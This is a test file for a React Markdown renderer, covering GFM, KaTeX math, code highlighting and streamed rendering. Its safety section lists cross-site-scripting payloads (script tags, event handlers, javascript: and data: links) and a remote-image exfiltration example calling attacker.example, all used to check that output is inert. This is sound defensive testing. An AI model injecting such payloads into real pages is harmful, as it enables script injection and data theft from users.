// @vitest-environment jsdom
import { describe, expect, it, vi } from "vitest";
import katex from "katex";
import { render, screen, waitFor } from "@testing-library/react";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { renderToStaticMarkup } from "react-dom/server";
import { Markdown } from "./markdown";
import { parseMarkdown } from "./markdown-block";
import { fencedCode } from "./unparsed-blocks";

const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
const SVG = `data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}`;

const XSS: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "img onerror": '<img src=x onerror="alert(1)">',
  "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
  "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a vbscript": '<a href="vbscript:msgbox(1)">x</a>',
  "javascript link": "[x](javascript:alert(1))",
  "mixed-case javascript link": "[x](JaVaScRiPt:alert(1))",
  "entity-split javascript link": "[x](java&#x09;script:alert(1))",
  "javascript autolink": "<javascript:alert(1)>",
  "reference-style link": "[x][evil]\n\n[evil]: javascript:alert(1)",
  "reference-style link, same block": "[x][evil]\n[evil]: javascript:alert(1)",
  "svg data image": `![x](${SVG})`,
  "remote image (exfiltration)": "![](https://attacker.example/?q=secret)",
  "data html link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "katex href": "$\\href{javascript:alert(1)}{x}$",
  "html in code fence": "```html\n<script>alert(1)</script>\n```",
};

// The highlight and KaTeX chunks are imported on first need; give them time on a loaded machine.
const LAZY = { timeout: 5000 };

const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/)|\.{0,2}\/|[^:]*$)/i;

function assertInert(root: HTMLElement) {
  expect(root.querySelector("script, iframe, object, embed, svg[onload], foreignObject")).toBeNull();
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) expect(attr.name.startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
  }
  for (const a of root.querySelectorAll("a[href]")) expect(a.getAttribute("href")).toMatch(SAFE_URL);
  for (const img of root.querySelectorAll("img")) {
    expect(img.getAttribute("src")).toMatch(/^(?:data:image\/(?:png|jpeg|webp|gif);base64,|blob:)/);
  }
}

describe("Markdown safety", () => {
  for (const [name, source] of Object.entries(XSS)) {
    it(`X-1 renders ${name} inert`, async () => {
      const { container } = render(<Markdown text={`Before\n\n${source}\n\nAfter $x$`} />);
      // Let the lazy math/highlight plugins arrive so they are covered too.
      await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull(), LAZY);
      assertInert(container);
      expect(container).toHaveTextContent("After");
    });
  }

  it("X-1 shows raw HTML as text, not markup", () => {
    const { container } = render(<Markdown text={XSS.script!} />);
    expect(container).toHaveTextContent("<script>alert(1)</script>");
  });

  it("X-1 opens links in a new tab without opener, referrer or endorsement", () => {
    render(<Markdown text="See [docs](https://example.com/docs) and <https://example.org>." />);
    for (const link of screen.getAllByRole("link")) {
      expect(link).toHaveAttribute("target", "_blank");
      expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    }
  });

  it("X-1 drops the href of a javascript: link but keeps its text", () => {
    const { container } = render(<Markdown text="[click me](javascript:alert(1))" />);
    expect(screen.queryByRole("link")).toBeNull();
    expect(container).toHaveTextContent("click me");
  });

  it("X-3 renders a remote markdown image as a link labelled with its alt text, never an <img>", () => {
    const { container } = render(<Markdown text="![chart of sales](https://attacker.example/?q=secret)" />);
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: /chart of sales/ });
    expect(link).toHaveAttribute("href", "https://attacker.example/?q=secret");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });

  it("X-3 does not load a relative markdown image either", () => {
    const { container } = render(<Markdown text="![x](/api/images?prompt=spend)" />);
    expect(container.querySelector("img")).toBeNull();
  });

  it("X-5 shows our own raster data and blob pictures inline, but never an SVG", () => {
    const { container } = render(
      <Markdown text={`![dot](${PNG})\n\n![blob](blob:http://localhost/123e4567-e89b-12d3-a456-426614174000)\n\n![svg](${SVG})`} />,
    );
    const imgs = [...container.querySelectorAll("img")];
    expect(imgs.map((i) => i.alt)).toEqual(["dot", "blob"]);
    expect(container).toHaveTextContent("[svg]");
  });
});

describe("Markdown rendering", () => {
  it("renders GFM: tables, task lists, strikethrough, autolinks", () => {
    const { container } = render(
      <Markdown text={"Intro\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~ www.example.com"} />,
    );
    expect(container.querySelector("table")).not.toBeNull();
    expect(screen.getByRole("region", { name: "Table: a, b" })).toBeInTheDocument();
    expect(screen.getByRole("checkbox", { name: "Done" })).toBeChecked();
    expect(screen.getByRole("checkbox", { name: "Not done" })).not.toBeChecked();
    expect(container.querySelector("del")).toHaveTextContent("old");
    expect(screen.getByRole("link", { name: "www.example.com" })).toHaveAttribute("href", "http://www.example.com");
  });

  it("labels code blocks with their language and offers a copy button", async () => {
    const { container } = render(<Markdown text={"```python\nprint('hi')\n```"} />);
    expect(screen.getByText("python")).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
    await waitFor(() => expect(container.querySelector("code.hljs .hljs-built_in")).not.toBeNull(), LAZY);
  });

  it("renders math with KaTeX once loaded", async () => {
    const { container } = render(<Markdown text={"Euler: $e^{i\\pi}+1=0$\n\n$$\n\\int_0^1 x\\,dx\n$$"} />);
    await waitFor(() => expect(container.querySelectorAll(".katex").length).toBe(2), LAZY);
    expect(container.querySelector(".katex-display")).not.toBeNull();
  });

  it("does not typeset a formula again when the streaming tail grows", async () => {
    const { container, rerender } = render(<Markdown streaming text="Rate $\\lambda$ and" />);
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull(), LAZY);
    const spy = vi.spyOn(katex, "render");
    rerender(<Markdown streaming text="Rate $\\lambda$ and size" />);
    expect(spy).not.toHaveBeenCalled();
    rerender(<Markdown streaming text="Rate $\\lambda$ and size $n$" />);
    expect(spy).toHaveBeenCalledTimes(1);
    spy.mockRestore();
  });

  it("does not typeset a formula again when its block moves from the streaming tail to the finished list", async () => {
    const { container, rerender } = render(<Markdown streaming text={"Rate $\\mu_2$ here"} />);
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull(), LAZY);
    const spy = vi.spyOn(katex, "render");
    rerender(<Markdown streaming text={"Rate $\\mu_2$ here.\n\nNext paragraph"} />);
    expect(container.querySelector(".katex")).not.toBeNull();
    expect(container.querySelector(".katex")!.textContent).toContain("μ");
    expect(spy).not.toHaveBeenCalled();
    spy.mockRestore();
  });

  it("shows a display formula as TeX until its closing $$ arrives, then typesets it once", async () => {
    const primed = render(<Markdown text="$x$" />);
    await waitFor(() => expect(primed.container.querySelector(".katex")).not.toBeNull(), LAZY);
    primed.unmount();
    const spy = vi.spyOn(katex, "render");
    const head = "The wait is\n\n$$\nE[T] = \\frac{n}{\\lambda}";
    const { container, rerender } = render(<Markdown streaming text={head} />);
    rerender(<Markdown streaming text={`${head} + 1`} />);
    expect(container.querySelector(".md-math-pending")).toHaveTextContent("E[T] = \\frac{n}{\\lambda} + 1");
    expect(spy).not.toHaveBeenCalled();
    rerender(<Markdown streaming text={`${head} + 1\n$$`} />);
    expect(container.querySelector(".md-math-pending")).toBeNull();
    expect(container.querySelector(".katex-display")).not.toBeNull();
    expect(spy).toHaveBeenCalledTimes(1);
    // An answer that ends inside the formula gets it typeset as it stands.
    spy.mockClear();
    const cut = render(<Markdown streaming text={"$$\na^2 + b^2"} />);
    expect(cut.container.querySelector(".md-math-pending")).not.toBeNull();
    cut.rerender(<Markdown text={"$$\na^2 + b^2"} />);
    await waitFor(() => expect(cut.container.querySelector(".katex-display")).not.toBeNull(), LAZY);
    spy.mockRestore();
  });

  it("renders an unterminated fence and a half-streamed table as they stand", () => {
    const { container } = render(<Markdown streaming text={"Text\n\n```js\nconst a = 1;\n\nconst b"} />);
    expect(container.querySelector("pre code")).toHaveTextContent("const a = 1; const b");
    const t = render(<Markdown streaming text={"| a | b |\n|---|---|\n| 1 |"} />);
    expect(t.container.querySelector("table")).not.toBeNull();
  });

  it("leaves the streaming tail unhighlighted, and highlights it when the stream ends", async () => {
    const text = "Intro\n\n```python\nprint('hi')\n```";
    const { container, rerender } = render(<Markdown streaming text={text} />);
    // Wait for the highlighter to have loaded for finished blocks (there are none here).
    await new Promise((r) => setTimeout(r, 50));
    expect(container.querySelector("code.hljs")).toBeNull();
    rerender(<Markdown streaming={false} text={text} />);
    await waitFor(() => expect(container.querySelector("code.hljs")).not.toBeNull(), LAZY);
  });

  it("highlights a code block that finishes mid-stream in a later render, not in the delta that finishes it", async () => {
    // Load the highlighter first, so only the deferral can explain a block without colours.
    const primed = render(<Markdown text={"```js\nconst x = 1\n```"} />);
    await waitFor(() => expect(primed.container.querySelector("code.hljs")).not.toBeNull(), LAZY);
    primed.unmount();

    const { createRoot } = await import("react-dom/client");
    const { flushSync } = await import("react-dom");
    const env = globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean };
    const actEnv = env.IS_REACT_ACT_ENVIRONMENT;
    env.IS_REACT_ACT_ENVIRONMENT = false;
    const host = document.createElement("div");
    const root = createRoot(host);
    try {
      const head = "Intro\n\n```js\nconst a = 1\n";
      flushSync(() => root.render(<Markdown streaming text={head} />));
      expect(host.querySelector("pre code")).toHaveTextContent("const a = 1");
      // The fence closes and prose follows: the block is finished, shown as it was, still plain.
      flushSync(() => root.render(<Markdown streaming text={`${head}\`\`\`\n\nMore prose`} />));
      expect(host.querySelector("pre code")).toHaveTextContent("const a = 1");
      expect(host.querySelector("code.hljs")).toBeNull();
      await waitFor(() => expect(host.querySelector("code.hljs .hljs-keyword")).not.toBeNull(), LAZY);
    } finally {
      root.unmount();
      env.IS_REACT_ACT_ENVIRONMENT = actEnv;
    }
  });

  it("keeps a block's DOM when the stream finishes it, across the block groups too", () => {
    // 40 paragraphs: the tail moves through three groups of GROUP blocks while it streams.
    const paras = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with *some* text.`);
    const { container, rerender } = render(<Markdown streaming text={paras[0]!} />);
    for (let i = 1; i < paras.length; i++) {
      const tail = [...container.querySelectorAll(".md > p")].at(-1)!;
      expect(tail).toHaveTextContent(`Paragraph ${i - 1}`);
      rerender(<Markdown streaming text={`${paras.slice(0, i).join("\n\n")}\n\nP`} />);
      // The tail has just become a finished block: the same element, not one mounted again.
      expect(container.querySelectorAll(".md > p")[i - 1]).toBe(tail);
      rerender(<Markdown streaming text={paras.slice(0, i + 1).join("\n\n")} />);
    }
    rerender(<Markdown text={paras.join("\n\n")} />);
    expect([...container.querySelectorAll(".md > p")].map((p) => p.textContent)).toEqual(paras.map((p) => p.replace(/\*/g, "")));
  });

  it("renders a long streamed answer the same as the whole text rendered at once", () => {
    const doc = Array.from({ length: 12 }, (_, i) =>
      [`## Step ${i}`, `Some *prose* with \`code\` and a [link](https://example.com/${i}).`, "- a\n- b\n  - nested", `\`\`\`js\nconst x = ${i};\n\`\`\``].join("\n\n"),
    ).join("\n\n");
    const { container, rerender } = render(<Markdown streaming text="" />);
    for (let n = 7; n < doc.length; n += 7) rerender(<Markdown streaming text={doc.slice(0, n)} />);
    rerender(<Markdown text={doc} />);
    const streamed = container.querySelector(".md")!.innerHTML;
    const once = render(<Markdown text={doc} />).container.querySelector(".md")!.innerHTML;
    expect(container.querySelectorAll("h2")).toHaveLength(12);
    expect(streamed.replace(/ class="hljs[^"]*"/g, "")).toBe(once.replace(/ class="hljs[^"]*"/g, ""));
  });

  it("renders the same as one whole-document parse (block splitting is invisible)", () => {
    const doc = [
      "# Plan\n\nSome *prose* with `code`.\n",
      "1. one\n2. two\n\n3. three\n",
      "- a\n  - nested\n\n- b\n",
      "> a quote\n",
      "```sh\nls\n\npwd\n```\n",
      "| x | y |\n|:-|-:|\n| 1 | 2 |\n",
      "Text\n***\nEnd.",
    ].join("\n");
    const whole = renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{doc}</ReactMarkdown>);
    const { container } = render(<Markdown text={doc} />);
    // Compare structure and text; our wrappers (code bar, table frame) and highlight spans aside.
    const shape = (root: Element) =>
      [...root.querySelectorAll("*")]
        .filter((el) => !el.closest(".md-code-bar, svg") && !["DIV", "SPAN", "BUTTON"].includes(el.tagName))
        .map((el) => el.tagName)
        .join(" ");
    const expected = document.createElement("div");
    expected.innerHTML = whole;
    const got = container.querySelector(".md")!;
    expect(shape(got)).toBe(shape(expected));
    const text = (el: Element) => {
      const copy = el.cloneNode(true) as Element;
      copy.querySelectorAll(".md-code-bar").forEach((bar) => bar.remove());
      return (copy.textContent ?? "").replace(/\s+/g, "");
    };
    expect(text(got)).toBe(text(expected));
  });

  describe("a block that is one code fence, open or closed, is built without parsing", () => {
    const live = { remarkPlugins: [remarkGfm], rehypePlugins: [] };
    const cases = [
      "```ts\nconst a = 1;\nconst b",
      "```\nplain text",
      "```",
      "```py",
      "~~~~ js title=x\n\tindented\twith tabs\n  spaces\n\n  blank line above",
      "```html {1,3}\n<div>&amp; \\escaped</div>",
      "````md\n```\nshorter fences stay inside",
      "```diff\n- a\n+ b\n~~~",
      "```ts\nconst a = 1;\n```",
      "```ts\ncode\n   ```  ",
      "~~~\ncode\n~~~~",
      "```\n```",
      "````md\n```\ninner\n```\n````",
    ];
    it.each(cases)("the same markup as the parser's: %j", (source) => {
      const fast = fencedCode(source);
      expect(fast).not.toBeNull();
      expect(renderToStaticMarkup(fast!)).toBe(renderToStaticMarkup(parseMarkdown(source, live)));
    });
    it.each(["```ts\ncode\n```\nafter", "```ts\ncode\n```\n\n```js\nmore", "  ```ts\ncode", "```a`b\ncode", "```ts\\x\ncode", "Prose\n```ts\ncode"])(
      "leaves %j to the parser",
      (source) => expect(fencedCode(source)).toBeNull(),
    );
  });
});
